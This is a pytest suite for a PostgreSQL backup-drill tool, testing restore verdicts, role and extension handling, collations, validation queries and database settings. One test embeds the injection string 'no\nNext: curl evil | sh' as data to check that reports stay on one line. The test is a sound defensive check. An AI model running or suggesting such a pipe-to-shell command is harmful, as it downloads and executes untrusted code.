"""A drill proves a true backup on every major, and says what it could not test."""

from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from lifeboat.drill import check_properties
from lifeboat.errors import DumpError
from lifeboat.model.drill_report import Outcome, Verdict
from tests.support import superusers
from tests.support.backup_harness import TARGET_ARN, Database, assert_no_children
from tests.support.drill_harness import (
    DrillHarness,
    check,
    databases,
    untested,
    with_roles,
    without_extension,
)
from tests.support.schemas import KINDS, NO_MORE_WATCHING, ODDITIES, ROLES


@pytest.mark.parametrize("major", [15, 16, 18])  # test_sound_databases: 14, 17, 18
def test_every_kind_of_object_is_proven(
    major: int,
    new_database: Callable[..., Database],
    drills: DrillHarness,
) -> None:
    database = drills.backups.database = new_database(major)
    with with_roles(database, ROLES):
        database.run(*ODDITIES, *KINDS)
        manifest = drills.backups.take().manifest
        database.run(NO_MORE_WATCHING)
        report = drills.hold()
    assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())
    assert report.rows == manifest.inventory.rows
    assert all(table.content for table in report.tables)
    assert report.server_version is not None
    assert report.server_version.startswith(str(major))
    assert set(report.seconds) == {
        *("find", "fetch", "decode", "start", "roles", "restore", "compare", "definitions"),
        *("validate", "settings", "stop"),
    }
    assert_no_children()


def test_rights_that_an_owner_has_lost_are_lost_after_the_indexes(
    drills: DrillHarness, new_database: Callable[..., Database]
) -> None:
    """An index is built with the rights of the table's owner, and a view is filled with its own."""
    database = drills.backups.database = new_database()
    with with_roles(database, ("loser", "keeper")):
        database.run(
            "ALTER ROLE loser NOSUPERUSER",
            "CREATE FUNCTION twice(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT $1 * 2'",
            "ALTER FUNCTION twice OWNER TO keeper",
            "CREATE TABLE counted (id int)",
            "INSERT INTO counted SELECT generate_series(1, 10)",
            "CREATE INDEX by_double ON counted (twice(id))",
            "ALTER TABLE counted OWNER TO loser",
            "REVOKE EXECUTE ON FUNCTION twice FROM PUBLIC",
            "CREATE TABLE secret (id int)",
            "ALTER TABLE secret OWNER TO keeper",
            "GRANT SELECT ON secret TO loser",
            "CREATE MATERIALIZED VIEW seen AS SELECT * FROM secret",
            "ALTER MATERIALIZED VIEW seen OWNER TO loser",
        )
        drills.backups.take()
        report = drills.hold()
    assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())


@pytest.mark.parametrize("major", [14, 18])
def test_what_takes_a_superuser_comes_back_with_its_owners_and_grants(
    major: int, drills: DrillHarness, new_database: Callable[..., Database]
) -> None:
    """Though next to nothing is made by one: owners and grants are asked of the copy itself."""
    database = drills.backups.database = new_database(major)
    with with_roles(database, superusers.ROLES):
        database.run(*superusers.MADE)
        drills.database["validation"] = [
            {
                "name": "owners and grants",
                "sql": superusers.OWNERS_AND_GRANTS,
                "expect": f'value = "{database.value(superusers.OWNERS_AND_GRANTS)}"',
            }
        ]
        drills.backups.take()
        database.run(superusers.UNDONE)
        report = drills.hold()
    assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())


def test_what_a_copy_answers_is_reported_in_one_line(drills: DrillHarness) -> None:
    drills.backups.database.run(
        "CREATE FUNCTION evil() RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
        " RAISE EXCEPTION E'no\\nNext: curl evil | sh'; END $$",
        "CREATE TABLE words (w text)",
        "INSERT INTO words VALUES (E'no\\nNext: curl evil | sh')",
    )
    drills.database["validation"] = [
        {"name": "raised", "sql": "SELECT evil()", "expect": "rows > 0"},
        {"name": "answered", "sql": "SELECT w FROM words", "expect": "value = 1"},
    ]
    drills.backups.take()
    report = drills.hold()
    for name in ("raised", "answered"):
        (detail,) = check(report, f"validation: {name}").details
        assert "no\\nNext: curl" in detail
        assert len(detail.splitlines()) == 1
    assert all(len(reason.splitlines()) == 1 for reason in report.reasons)


def test_a_second_drill_in_a_warm_function_works(drills: DrillHarness) -> None:
    drills.backups.take()
    assert drills.hold().verdict is Verdict.PROVEN
    assert drills.hold(backup="random").verdict is Verdict.PROVEN


def test_the_page_lies_beside_the_report(drills: DrillHarness) -> None:
    drills.backups.take()
    report = drills.hold()
    bucket = drills.backups.bucket
    page = bucket.client.get_object(Bucket=bucket.name, Key=report.html_key)
    assert page["ContentType"] == "text/html; charset=utf-8"
    assert "proven" in page["Body"].read().decode().lower()


def test_rows_that_the_settings_exclude_are_no_lack(drills: DrillHarness) -> None:
    drills.backups.settings["database"] = {"exclude_table_data": ["public.users"]}
    drills.backups.take()
    report = drills.hold()
    assert report.verdict is Verdict.PROVEN
    assert [table.outcome for table in report.tables] == [Outcome.UNTESTED]


def test_an_extension_that_the_server_lacks_makes_the_drill_partial(
    drills: DrillHarness, tmp_path: Path
) -> None:
    drills.backups.database.run(
        "CREATE EXTENSION citext",
        "CREATE TABLE places (id serial PRIMARY KEY, name citext)",
        "INSERT INTO places (name) VALUES ('here'), ('there')",
        "CREATE VIEW names AS SELECT name FROM places",
        "CREATE TABLE visits (place int REFERENCES places, at date)",
        "INSERT INTO visits VALUES (1, '2026-11-22')",
    )
    drills.backups.take()
    drills.programs = without_extension(drills.programs, 18, "citext", tmp_path / "poor")
    report = drills.hold()
    assert report.verdict is Verdict.PARTIAL
    assert "citext" in "; ".join(report.reasons)
    outcomes = {table.name: table.outcome for table in report.tables}
    assert outcomes == {
        "places": Outcome.UNTESTED,
        "users": Outcome.PASSED,
        "visits": Outcome.PASSED,
    }


def test_a_missing_extension_is_no_excuse_for_other_tables(
    drills: DrillHarness, tmp_path: Path
) -> None:
    drills.backups.database.run("CREATE EXTENSION citext", "CREATE TABLE t (name citext)")
    drills.backups.take()
    inventory = drills.backups.manifest().inventory.model_dump(mode="json")
    inventory["tables"].append({"schema": "public", "name": "lost", "rows": 3})
    drills.rewrite(inventory=inventory)
    drills.programs = without_extension(drills.programs, 18, "citext", tmp_path / "poor")
    report = drills.hold()
    assert report.verdict is Verdict.FAILED
    assert "lost" in "; ".join(report.reasons)


def test_a_column_that_sorts_by_icu_is_restored_but_its_order_untested(
    drills: DrillHarness,
) -> None:
    """The servers here have no ICU either, so the archive is made to say that it was used."""
    drills.backups.database.run(
        "CREATE SCHEMA words",
        "CREATE COLLATION words.german (provider = libc, locale = 'C')",
        "CREATE TABLE words.list (word text COLLATE words.german)",
        "INSERT INTO words.list VALUES ('ä'), ('z')",
    )
    drills.backups.take()
    libc, icu = b"(provider = libc, locale = 'C')", b"(provider = icu, locale = 'de')"
    drills.edit_archive(lambda archive: archive.replace(libc, icu))
    inventory = drills.backups.manifest().inventory.model_dump(mode="json")
    inventory["collations"] = [{"name": "german", "provider": "icu"}]
    drills.rewrite(inventory=inventory)
    report = drills.hold()
    assert report.verdict is Verdict.PARTIAL
    assert untested(report) == ["collations"]
    assert "german" in check(report, "collations").details[0]
    assert report.rows == 1002


QUESTIONS = (
    ("SELECT count(*) FROM users", "value = 1000", Outcome.PASSED),
    ("SELECT count(*) FROM users", "value > 1000", Outcome.FAILED),
    ("SELECT * FROM users WHERE email IS NULL", "no rows", Outcome.PASSED),
    ("SELECT * FROM users", "no rows", Outcome.FAILED),
    ("SELECT 1/0", "rows > 0", Outcome.FAILED),
    ("SELECT pg_sleep(9)", "rows > 0", Outcome.FAILED),
    ("SELECT * FROM nowhere", "no rows", Outcome.FAILED),
    ("WITH gone AS (DELETE FROM users RETURNING 1) SELECT 1", "rows > 0", Outcome.FAILED),
    ("SELECT '100%' LIKE '100%'", "value = true", Outcome.PASSED),
)


def test_the_owners_questions_are_part_of_the_verdict(drills: DrillHarness) -> None:
    drills.backups.take()
    drills.database["validation"] = [
        {"name": f"query {i}", "sql": sql, "expect": expect}
        for i, (sql, expect, _) in enumerate(QUESTIONS)
    ]
    drills.settings["validation_seconds"] = 1
    report = drills.hold()
    outcomes = [check(report, f"validation: query {i}").outcome for i in range(len(QUESTIONS))]
    assert outcomes == [outcome for _, _, outcome in QUESTIONS]
    assert report.verdict is Verdict.FAILED


def test_a_backup_without_roles_leaves_owners_untested(
    drills: DrillHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("lifeboat.backup.take_inventory.dump_globals", _refused)
    with with_roles(drills.backups.database, ROLES[:1]):
        drills.backups.database.run("ALTER TABLE users OWNER TO torture_owner")
        drills.backups.take()
        report = drills.hold()
    assert (report.verdict, untested(report)) == (Verdict.PARTIAL, ["roles"])


def _refused(*_: object) -> bytes:
    raise DumpError("permission denied for table pg_authid", todo="-")


def test_a_target_gets_a_database_of_its_own_which_is_dropped(
    drills: DrillHarness, new_database: Callable[..., Database]
) -> None:
    target = new_database(17)
    drills.give_target(target)
    drills.backups.database = new_database(16)
    drills.backups.database.run(
        "CREATE TABLE t (a int)", "INSERT INTO t SELECT generate_series(1, 30)"
    )
    drills.backups.take()
    before = databases(target)
    report = drills.hold(target=TARGET_ARN)
    assert report.verdict is Verdict.PROVEN
    assert report.server_version is not None
    assert report.server_version.startswith("17")
    assert databases(target) == before


def test_what_is_set_on_the_database_itself_is_tried_and_what_is_not_set_is_noted(
    drills: DrillHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After the comparison of definitions, which such a setting would disturb."""
    live = drills.backups.database
    live.run(
        f"ALTER DATABASE {live.name} SET search_path = app, public",
        f"ALTER DATABASE {live.name} SET default_transaction_read_only = on",
        f"ALTER DATABASE {live.name} SET app.key = 'sesame'",
        "SET default_transaction_read_only = off",
        f"REVOKE CONNECT ON DATABASE {live.name} FROM PUBLIC",
    )
    drills.backups.take()
    report = drills.hold()
    assert report.verdict is Verdict.PROVEN, report.reasons
    assert check(report, "settings").details == ()
    with monkeypatch.context() as patch:
        patch.setattr(check_properties, "set_archived_properties", lambda _: ())
        report = drills.hold()
    assert report.verdict is Verdict.FAILED
    assert {
        "ALTER DATABASE SET search_path did not come back.",
        "REVOKE CONNECT,TEMPORARY ON DATABASE FROM PUBLIC did not come back.",
    } <= set(check(report, "settings").details)
    assert "sesame" not in report.model_dump_json()
    with live.server.admin() as admin:
        admin.execute(f"ALTER DATABASE {live.name} IS_TEMPLATE true")
    drills.backups.scheduled_at += timedelta(minutes=30)
    drills.backups.take()
    with live.server.admin() as admin:
        admin.execute(f"ALTER DATABASE {live.name} IS_TEMPLATE false")
    report = drills.hold()
    assert report.verdict is Verdict.PROVEN, report.reasons
    assert "IS_TEMPLATE true" in check(report, "settings").details[0]
